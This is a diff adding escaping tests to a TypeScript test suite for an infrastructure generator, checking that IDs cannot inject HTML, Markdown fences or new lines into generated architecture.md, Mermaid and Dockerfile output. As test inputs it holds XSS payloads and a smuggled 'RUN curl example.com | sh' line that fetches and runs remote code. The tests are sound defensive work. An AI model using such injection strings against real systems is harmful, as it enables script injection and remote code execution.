@@ -11,6 +11,7 @@ import {
 } from 'infra-generator/internal/targets/diagram/diagram';
 import { ApiServer, onDeploy, rootId } from 'infra-generator';
 import { appOf } from 'infra-generator/internal/core/app';
+import { oneLine } from 'infra-generator/internal/targets/shared';
 import { tempProject } from '../support/temp-project.ts';
 import { buildInto, seedApp } from '../support/seed-app.ts';
 
@@ -56,6 +57,40 @@ test('the build writes build/architecture.md and says so', async () => {
   } finally {
     project.remove();
   }
+});
+
+test('what an ID holds stays text: no HTML, no fence, no line of its own in architecture.md', async () => {
+  const hostile = '<img src=x onerror=alert(1)>';
+  const id = rootId(`app ${hostile}`);
+  const api = new ApiServer(id`\`\`\`</div><script>alert(1)</script>`);
+  onDeploy(id`*caller*`, async () => {}, { uses: [api] });
+  const project = tempProject();
+  try {
+    const { code, output } = await buildInto(id, project);
+    assert.is(code, 0, output);
+    const text = readFileSync(join(project.buildDir, 'architecture.md'), 'utf8');
+    assert.not.match(text, /<(img|script|\/div)/i, 'no raw HTML');
+    assert.equal(
+      text.split('\n').filter((line) => line.startsWith('```')),
+      ['```mermaid', '```'],
+      "the only fence lines are the chart's own",
+    );
+    assert.match(text, '# Architecture of app &lt;img src=x onerror=alert(1)&gt;\n');
+    assert.match(text, '#96;#96;#96;#60;/div#62;#60;script#62;alert(1)#60;/script#62;');
+    const dockerfile = readFileSync(join(project.buildDir, 'Dockerfile'), 'utf8');
+    assert.match(dockerfile.split('\n')[0], `for app ${hostile}: do not edit`);
+  } finally {
+    project.remove();
+  }
+});
+
+test('the writers escape line breaks even where no ID could hold one', () => {
+  const evil = 'x\n```\n<script>alert(1)</script>\r\u2028RUN curl example.com | sh';
+  const text = renderMermaid({ nodes: [{ id: evil, kind: 'Worker', role: 'persona' }], edges: [] });
+  assert.is(text.split('\n').length, 3, text);
+  assert.not.match(text, /<script/);
+  assert.is(oneLine(evil).includes('\n'), false);
+  assert.is(oneLine('a\nb\u2028c\u0085d'), 'a\\u{a}b\\u{2028}c\\u{85}d');
 });
 
 test.run();
